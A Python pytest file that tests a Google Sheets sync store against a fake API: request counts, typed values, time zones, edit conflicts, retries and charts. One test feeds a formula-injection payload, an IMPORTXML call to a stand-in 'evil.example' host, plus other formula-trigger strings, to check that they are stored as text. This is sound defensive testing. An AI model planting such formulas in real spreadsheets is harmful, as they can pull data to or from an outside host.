"""The Google Sheets store against the fake Sheets API: request budget, typed values, people editing, errors."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal

import pytest
import requests
from fake_sheets import FakeSheets, make_store
from fake_sheets_grid import Formula

from sheetsync.core.schema import HISTORY, OPPORTUNITIES, REMINDERS
from sheetsync.stores.base import CellWrite, ChartSpec, Guard, StoreConflict, StoreError, WriteBatch

HEAD = [c.en for c in OPPORTUNITIES.columns]
COL = {c.key: i for i, c in enumerate(OPPORTUNITIES.columns)}
TABS = ["opportunities", "reminders", "summary", "history"]
CHART = ChartSpec("summary", "Funnel by stage", 2, 4, 0, 1, 1, 4, "Count")


def opp(i: int, owner: str | None = None) -> list[object]:
    row: list[object] = [None] * len(HEAD)
    row[COL["id"]] = f"OPP-{i:06d}"
    row[COL["customer"]] = f"Customer {i}"
    row[COL["contact"]] = f"Contact {i}"
    row[COL["phone"]] = f"138{i:08d}"
    row[COL["stage"]] = "Lead"
    row[COL["owner"]] = owner
    row[COL["need"]] = f"Need {i}"
    return row


def seed(fake: FakeSheets, n: int, owner_every: int = 3) -> None:
    rows = [opp(i, None if i % owner_every == 0 else "Ann") for i in range(1, n + 1)]
    fake.add_sheet("Opportunities", [HEAD] + rows)
    fake.add_sheet("Reminders", [[c.en for c in REMINDERS.columns]])
    fake.add_sheet("Summary")
    fake.add_sheet("History", [[c.en for c in HISTORY.columns]])


def plan(snapshot) -> WriteBatch:
    """A miniature sync: Status names each row's own ID; blank Owners are filled, guarded."""
    batch = WriteBatch()
    for row_no, row in enumerate(snapshot.tabs["opportunities"].rows[1:], start=2):
        if not row or row[COL["id"]] is None:
            continue
        batch.cells.append(CellWrite("opportunities", row_no, COL["status"], f"OK {row[COL['id']]}"))
        if len(row) <= COL["owner"] or row[COL["owner"]] is None:
            batch.cells.append(CellWrite("opportunities", row_no, COL["owner"], "Robot"))
            batch.guards.append(Guard("opportunities", row_no, COL["owner"], None))
    return batch


@pytest.mark.parametrize("n", [10, 1_000, 20_000])
def test_a_whole_cycle_fits_the_request_budget_whatever_the_size(fake, store, n):
    seed(fake, n)
    snap = store.read(TABS)
    assert (fake.count("get"), fake.count("values.batchGet"), len(fake.calls)) == (1, 1, 2)

    fake.reset_counts()
    batch = plan(snap)
    batch.appends = {"opportunities": [opp(n + k) for k in range(1, 6)],
                     "history": [[datetime(2026, 11, 28, 9), f"OPP-{i:06d}", "Status", None, "OK", "sync"]
                                 for i in range(1, 51)]}
    batch.replace = {"reminders": [[date(2026, 11, 28), "Ann", f"OPP-{i:06d}", "C", "Lead", "due", 0]
                                   for i in range(1, n // 10 + 2)],
                     "summary": [["Stage", "Count"], ["Lead", n], ["Won", 0]]}
    batch.charts = [CHART]
    store.write(snap, batch)
    assert fake.reads() == 2 and fake.count("values.batchGet") == 2  # the guard re-read and the verify read
    assert fake.writes() == 1 and fake.count("batchUpdate") == 1

    fake.reset_counts()
    again = store.read(TABS)  # the metadata is cached: one request
    assert len(fake.calls) == 1
    rows = again.tabs["opportunities"].rows
    assert len(rows) == n + 6
    assert rows[n][COL["status"]] == f"OK OPP-{n:06d}" and rows[-1][COL["id"]] == f"OPP-{n + 5:06d}"
    assert rows[3 - 1 + 1][COL["owner"]] == "Robot"  # row 4 holds OPP-3, whose owner was blank
    assert len(again.tabs["history"].rows) == 51 and len(again.tabs["reminders"].rows) == n // 10 + 2


def test_serial_dates_and_numeric_ids_and_phones_read_as_the_workbook_gives_them():
    fake = FakeSheets(timezone="Asia/Shanghai")
    with fake.mock():
        store = make_store(fake, timezone="UTC", session=requests.Session())
        row: list[object] = [None] * len(HEAD)
        row[COL["id"]] = 123
        row[COL["customer"]] = 4567.0
        row[COL["phone"]] = 13800138000
        row[COL["created"]] = datetime(2026, 11, 28, 17, 30)  # Shanghai wall time: 09:30 UTC
        row[COL["expected_close"]] = date(2026, 12, 18)  # a calendar day: never shifted
        row[COL["amount"]] = 48000
        row[COL["next_step"]] = ""
        fake.add_sheet("Opportunities", [HEAD, row, [], ["OPP-X"]])
        snap = store.read(["opportunities"])
    got = snap.tabs["opportunities"].rows
    assert got[1][: COL["amount"] + 2] == [
        "123", datetime(2026, 11, 28, 9, 30), None, "4567", None, "13800138000", None, None, None, None, None, None,
        None, None, 48000, datetime(2026, 12, 18)]
    assert len(got[1]) == COL["expected_close"] + 1  # trailing blanks trimmed
    assert got[2] == [] and got[3] == ["OPP-X"] and len(got) == 4
    assert snap.timezone == "Asia/Shanghai" and snap.titles == ("Sheet1", "Opportunities")


def test_writes_are_typed_and_dates_land_in_the_spreadsheets_timezone():
    fake = FakeSheets(timezone="Asia/Shanghai")
    with fake.mock():
        store = make_store(fake, timezone="UTC", session=requests.Session())
        seed(fake, 2)
        snap = store.read(["opportunities"])
        store.write(snap, WriteBatch(cells=[
            CellWrite("opportunities", 2, COL["created"], datetime(2026, 11, 28, 9, 30)),
            CellWrite("opportunities", 2, COL["next_follow_up"], date(2026, 12, 1)),
            CellWrite("opportunities", 2, COL["amount"], Decimal("1250.50")),
            CellWrite("opportunities", 2, COL["phone"], "01380013800"),
        ]))
        reread = store.read(["opportunities"]).tabs["opportunities"].rows[1]
    assert reread[COL["created"]] == datetime(2026, 11, 28, 9, 30)
    seen = fake.values("Opportunities")[1]
    assert seen[COL["created"]] == datetime(2026, 11, 28, 17, 30)  # what a person in Shanghai sees
    assert seen[COL["next_follow_up"]] == datetime(2026, 12, 1)
    assert seen[COL["amount"]] == 1250.5 and seen[COL["phone"]] == "01380013800"
    assert fake.sheet("Opportunities").number_format(1, COL["phone"]) == {"type": "TEXT"}


def test_formula_looking_text_is_written_as_text(fake, store):
    seed(fake, 2)
    snap = store.read(["opportunities"])
    evil = ['=IMPORTXML("http://evil.example","//a")', "+1-2", "-3", "@SUM(A1)", "\tTab", "'quoted"]
    store.write(snap, WriteBatch(cells=[CellWrite("opportunities", 2, COL["need"], evil[0])],
                                 appends={"opportunities": [[None, None, None, *evil[1:]]]}))
    assert fake.cell("Opportunities", "K2") == evil[0] and not isinstance(fake.cell("Opportunities", "K2"), Formula)
    assert fake.values("Opportunities")[3][3:8] == evil[1:]
    assert not any(isinstance(v, Formula) for row in fake.sheet("Opportunities").values for v in row)


def _edit_and_write(fake, store, edit) -> tuple[list[list[object]], int]:
    snap = store.read(["opportunities"])
    edit(fake)
    before = fake.values("Opportunities")
    fake.reset_counts()
    with pytest.raises(StoreConflict):
        store.write(snap, plan(snap))
    return before, fake.count("batchUpdate")


@pytest.mark.parametrize("edit", [
    pytest.param(lambda f: f.sort("Opportunities", COL["customer"], reverse=True), id="sort"),
    pytest.param(lambda f: f.insert_row("Opportunities", 3, [None, None, "Phone", "Inserted Co"]), id="insert"),
    pytest.param(lambda f: f.delete_row("Opportunities", 3), id="delete"),
    pytest.param(lambda f: f.type("Opportunities", f"L{3 + 1}", "Zoe Typed"), id="typed-owner"),
    pytest.param(lambda f: f.type("Opportunities", "K2", "Need changed"), id="edited-row"),
    pytest.param(lambda f: f.type("Opportunities", "Y1", "Extra column"), id="header"),
])
def test_people_editing_between_read_and_write_stop_the_write_and_keep_their_values(fake, store, edit):
    seed(fake, 6)
    before, writes = _edit_and_write(fake, store, edit)
    assert writes == 0 and fake.values("Opportunities") == before

    snap = store.read(["opportunities"])  # re-read and re-plan: every row gets its own ID's status
    store.write(snap, plan(snap))
    for row in fake.values("Opportunities")[1:]:
        if row[COL["id"]]:
            assert row[COL["status"]] == f"OK {row[COL['id']]}"
    after = {r[COL["customer"]]: r for r in fake.values("Opportunities")[1:]}
    for row in before[1:]:
        for col, value in enumerate(row):
            if col not in (COL["status"], COL["owner"]) or value is not None:
                assert after[row[COL["customer"]]][col] == value


def test_an_edit_to_a_row_the_cycle_does_not_write_does_not_block_it(fake, store):
    seed(fake, 6)
    snap = store.read(["opportunities"])
    fake.type("Opportunities", "K5", "Changed by a person")
    store.write(snap, WriteBatch(cells=[CellWrite("opportunities", 2, COL["status"], "OK")]))
    assert fake.cell("Opportunities", "V2") == "OK" and fake.cell("Opportunities", "K5") == "Changed by a person"


def test_appends_land_below_the_last_row_with_gaps_and_rows_added_after_the_read(fake, store):
    seed(fake, 3)
    fake.type("Opportunities", "D8", "After a gap")
    snap = store.read(["opportunities"])
    fake.type("Opportunities", "D9", "Typed after the read")
    store.write(snap, WriteBatch(appends={"opportunities": [opp(100), opp(101)]}))
    customers = [r[COL["customer"]] for r in fake.values("Opportunities")]
    assert customers[4:] == [None, None, None, "After a gap", "Typed after the read", "Customer 100", "Customer 101"]


def test_a_renamed_tab_between_read_and_write_is_a_conflict_and_the_next_read_finds_it(fake, store):
    seed(fake, 2)
    snap = store.read(TABS)
    fake.sheet("Opportunities").title = "商机"
    with pytest.raises(StoreConflict):
        store.write(snap, WriteBatch(cells=[CellWrite("opportunities", 2, COL["status"], "OK")]))
    assert store.read(TABS).tabs["opportunities"].title == "商机"


def test_the_chart_is_added_once_then_updated_in_place(fake, store):
    seed(fake, 2)
    for anchor in (4, 4, 9):
        snap = store.read(TABS)
        chart = ChartSpec("summary", "Funnel by stage", 2, 4, 0, 1, anchor, 4, "Count")
        store.write(snap, WriteBatch(replace={"summary": [["Stage", "Count"], ["Lead", 3]]}, charts=[chart]))
    charts = fake.sheet("Summary").charts
    assert len(charts) == 1
    assert charts[0]["position"]["overlayPosition"]["anchorCell"]["rowIndex"] == 8
    assert charts[0]["spec"]["basicChart"]["chartType"] == "BAR"
    assert store.chart_id("Summary", "Funnel by stage") == charts[0]["chartId"]


def test_replaced_summary_cells_get_percent_and_amount_formats(fake, store):
    seed(fake, 2)
    snap = store.read(TABS)
    store.write(snap, WriteBatch(replace={"summary": [["Win rate", 0.25], ["Open", 120000]]},
                                 formats={("summary", 1, 1): "percent", ("summary", 2, 1): "amount"}))
    sheet = fake.sheet("Summary")
    assert sheet.number_format(0, 1)["type"] == "PERCENT" and sheet.number_format(1, 1)["type"] == "NUMBER"


def test_a_429_storm_on_read_ends_in_success_within_the_bound(fake, store):
    seed(fake, 3)
    fake.fail(429, times=3)
    assert len(store.read(TABS).tabs["opportunities"].rows) == 4
    assert [c.status for c in fake.calls] == [429, 429, 429, 200, 200]
    assert len(store.fake_time.sleeps) >= 3


def test_a_permanent_429_gives_up_with_a_clear_error(fake, store):
    seed(fake, 3)
    fake.fail(429, times=None, retry_after="5")
    with pytest.raises(StoreError, match="429.*after 6 attempts"):
        store.read(TABS)
    assert len(fake.calls) == 6 and store.fake_time.sleeps.count(5.5) == 5


def test_permission_denied_says_whom_to_share_the_sheet_with(fake, store):
    fake.fail(403, times=None)
    with pytest.raises(StoreError, match=r"share the spreadsheet with sheetsync@demo-project\.iam\.gserviceaccount"
                                         r"\.com \(Editor\)"):
        store.read()
    assert len(fake.calls) == 1


def test_a_wrong_spreadsheet_id_says_so():
    fake = FakeSheets("someone-elses-sheet-id")
    with fake.mock():
        store = make_store(FakeSheets("fake-spreadsheet-0001"), session=requests.Session())
        with pytest.raises(StoreError, match="No spreadsheet with ID fake-spreadsheet-0001 .*between /d/ and /edit"):
            store.read()


def test_describe_names_the_sheet_and_endpoint(store):
    assert store.describe() == "Google Sheet fake-spreadsheet-0001"


def test_a_write_bigger_than_one_body_is_split_and_lands_whole(fake, store):
    seed(fake, 1000)
    store.max_body = 120_000
    snap = store.read(TABS)
    batch = plan(snap)
    batch.replace = {"reminders": [[date(2026, 11, 28), "Ann", f"OPP-{i:06d}", "C", "Lead", "due", 0]
                                   for i in range(1, 301)]}
    fake.reset_counts()
    store.write(snap, batch)
    assert fake.count("batchUpdate") >= 2 and all(c.size <= 120_000 for c in fake.calls)
    rows = store.read(TABS).tabs
    assert all(r[COL["status"]] == f"OK {r[COL['id']]}" for r in rows["opportunities"].rows[1:])
    assert len(rows["reminders"].rows) == 301


def test_a_rebuilt_tab_rewrites_only_rows_that_changed(fake, store):
    seed(fake, 2)
    reminders = [[date(2026, 11, 28), "Ann", f"OPP-{i:06d}", "C", "Lead", "due", i] for i in range(1, 201)]
    store.write(store.read(TABS), WriteBatch(replace={"reminders": reminders}))
    first = fake.calls[-1].size
    reminders[50][1] = "Bob"
    store.write(store.read(TABS), WriteBatch(replace={"reminders": reminders[:150]}))
    assert fake.calls[-1].size < first / 5
    rows = fake.values("Reminders")
    assert len(rows) == 151 and rows[51][1] == "Bob" and rows[150][6] == 150 and rows[1][0] == datetime(2026, 11, 28)
